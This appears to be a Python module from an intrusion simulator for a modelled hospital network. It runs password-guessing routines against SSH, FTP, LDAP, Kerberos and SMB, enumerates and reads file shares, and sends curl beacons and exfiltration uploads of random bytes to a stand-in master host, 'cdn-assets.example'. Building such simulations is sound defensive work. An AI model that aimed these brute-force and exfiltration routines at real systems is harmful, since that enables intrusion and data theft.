"""What intruders do with what they have guessed, stolen or found: log-ins that fail until one does not, calls to their master."""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime

from accounts import ACCOUNT, PASSWORD
from act import Doing
from impacket.smb3structs import FILE_READ_DATA, SMB2_DIALECT_21, SMB2_DIALECT_311
from impacket.smbconnection import SessionError, SMBConnection
from lan import SCRATCH, RangeError
from services.directory import kerberos_conf, realm
from services.files import documents, lay_out
from space import call
from state import Hospital

MASTER = "cdn-assets.example"
AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
SSHPASS_FAILED, SSH_FAILED, CURL_FAILED, BIND_FAILED = 5, 255, 67, 49
"""Exit statuses that say `not let in`: sshpass(1), ssh(1), curl(1), and ldapsearch(1) with LDAP's invalidCredentials (RFC 4511)."""
SSH_OPTIONS = ("StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null", "LogLevel=ERROR", "NumberOfPasswordPrompts=1")
Try = Callable[[Hospital, str, str], bool]
"""One attempt, with user and password: whether it is let in."""


def connect(hospital: Hospital, server: str, user: str = ACCOUNT, password: str = PASSWORD, hidden: bool = False) -> SMBConnection:
    """Log in by NTLM. `hidden`: in SMB 3, in which impacket encrypts whatever follows; otherwise SMB 2.1 in clear."""
    address = hospital.address(server)
    link = SMBConnection(address, address, preferredDialect=SMB2_DIALECT_311 if hidden else SMB2_DIALECT_21, timeout=20)
    link.login(user, password)
    return link


def call_home(size: int = 180) -> Doing:
    """Tell the master over TLS that the machine is there, and hear that there is nothing to do."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        words = ["curl", "-s", "-A", AGENT, "-o", "/dev/null", "-m", "20", "--cacert", SCRATCH / "ca.crt", "-d", "@-"]
        call([*words, f"https://{MASTER}/take"], stdin="z" * size)

    return doing


def carry_out(size: int, pieces: int = 1) -> Doing:
    """Bytes of a seeded generator go to the master over TLS, as an archive would."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        path = hospital.folder("attacker") / "archive.7z"
        path.write_bytes(random.Random(f"loot{moment}").randbytes(size // pieces))
        words = ["curl", "-s", "-A", AGENT, "-o", "/dev/null", "-m", "60", "--cacert", SCRATCH / "ca.crt", "-H", "Expect:"]
        for _ in range(pieces):
            call([*words, "--data-binary", f"@{path}", f"https://{MASTER}/take"])
        path.unlink()

    return doing


def look_around(to: str, share: str) -> Doing:
    """Which shares there are (MS-SRVS NetrShareEnum), and what is in one, read file by file, after it was laid out anew."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        lay_out(hospital, to)
        link = connect(hospital, to)
        link.listShares()
        tree = link.connectTree(share)
        for path in documents(share):
            name = str(path).replace("/", "\\")
            if path.name == documents(share)[0].name:
                link.listPath(share, str(path.parent) + "\\*")
            file = link.openFile(tree, name, desiredAccess=FILE_READ_DATA)
            link.readFile(tree, file)
            link.closeFile(tree, file)
        link.close()

    return doing


def attempts(how: Try, who: Sequence[tuple[str, str]], *, success: bool = False, at_once: int = 1) -> Doing:
    """Try users and passwords, `at_once` side by side; `success`: the last one is let in, nobody before.

    The act fails (RangeError) when the server decides otherwise: then the hospital is not what the scenario takes it for.
    """

    def doing(hospital: Hospital, moment: datetime) -> None:
        with ThreadPoolExecutor(at_once) as pool:  # its threads are the host too: they begin where the one is that makes them
            let_in = list(pool.map(lambda one: how(hospital, *one), who))
        if let_in != [False] * (len(who) - 1) + [success]:
            raise RangeError(f"{sum(let_in)} of {len(who)} attempts were let in")

    return doing


def ssh(to: str) -> Try:
    def attempt(hospital: Hospital, user: str, password: str) -> bool:
        options = [word for option in SSH_OPTIONS for word in ("-o", option)]
        words = ["sshpass", "-p", password, "ssh", *options, f"{user}@{hospital.address(to)}", "true"]
        return succeeds(words, SSHPASS_FAILED, SSH_FAILED)

    return attempt


def ftp(to: str) -> Try:
    def attempt(hospital: Hospital, user: str, password: str) -> bool:
        words = ["curl", "-s", "-o", "/dev/null", "-m", "20", "-u", f"{user}:{password}", f"ftp://{hospital.address(to)}/"]
        return succeeds(words, CURL_FAILED)

    return attempt


def ldap(to: str) -> Try:
    """A simple bind without TLS (RFC 4513 5.1.3)."""

    def attempt(hospital: Hospital, user: str, password: str) -> bool:
        name = f"{user}@{realm(hospital).lower()}"
        words = [
            "ldapsearch",
            "-x",
            "-H",
            f"ldap://{hospital.address(to)}",
            "-D",
            name,
            "-w",
            password,
            "-b",
            "",
            "-s",
            "base",
            "namingContexts",
        ]
        return succeeds(words, BIND_FAILED)

    return attempt


def kerberos(hospital: Hospital, user: str, password: str) -> bool:
    """Ask the domain for a ticket (RFC 4120 3.1)."""
    env = {"KRB5_CONFIG": str(kerberos_conf(hospital)), "KRB5CCNAME": f"FILE:{hospital.folder('dc')}/guessed-{user}"}
    return succeeds(["kinit", f"{user}@{realm(hospital)}"], 1, stdin=f"{password}\n", env=env)


def smb(to: str) -> Try:
    """NTLM over SMB. Who is unknown to a server that takes strangers for guests is let in as one, so those count as refused."""

    def attempt(hospital: Hospital, user: str, password: str) -> bool:
        try:
            link = connect(hospital, to, user, password)
        except SessionError:
            return False
        guest = bool(link.isGuestSession())
        link.close()
        return not guest

    return attempt


def succeeds(words: Sequence[object], *refused: int, stdin: str = "", env: dict[str, str] | None = None) -> bool:
    """Whether a client is let in; `refused`: exit statuses that say that it is not, any other is an error."""
    shell = ["sh", "-c", '"$@" >/dev/null; echo $?', "sh", *words]
    status = int(call(shell, stdin=stdin, env=env))
    if status not in (0, *refused):
        raise RangeError(f"{words[0]}: exit {status}")
    return not status
